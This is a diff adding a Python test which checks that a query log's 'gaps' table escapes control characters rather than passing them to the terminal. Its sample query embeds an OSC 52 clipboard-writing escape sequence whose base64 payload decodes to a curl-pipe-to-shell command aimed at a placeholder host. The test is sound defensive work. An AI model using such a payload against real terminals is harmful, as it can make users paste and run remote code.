@@ -116,6 +116,25 @@ def test_gaps_table_prints_a_query_as_asked(project: tuple[Path, Repo]) -> None:
     assert asked in table.stdout
 
 
+def test_gaps_table_shows_control_characters_of_a_query_instead_of_sending_them(
+    project: tuple[Path, Repo],
+) -> None:
+    """Any client's query lands in the log: an ESC sequence in it (retitle the terminal, write
+    its clipboard with OSC 52) reached the team lead's terminal as it was sent."""
+    cwd, _ = project
+    settings = load_settings(
+        cwd / "briefd.yaml", env={}, overrides={"db": str(cwd / ".briefd" / "briefd.db")}
+    )
+    at = datetime.now(UTC).isoformat(timespec="seconds")
+    asked = "payouts \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07stall"
+    with Briefd(settings, embedder=None) as api:
+        api.log_queries([logged("search", asked, at, None, 1.0, "mcp")])
+    table = briefd("gaps", cwd=cwd, env={"COLUMNS": "200"})
+    assert table.returncode == 0, table.stderr
+    assert "\x1b" not in table.stdout and "\x07" not in table.stdout
+    assert "payouts \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07stall" in table.stdout
+
+
 def test_a_date_at_the_edge_of_time_is_a_window_not_a_traceback(
     project: tuple[Path, Repo],
 ) -> None:
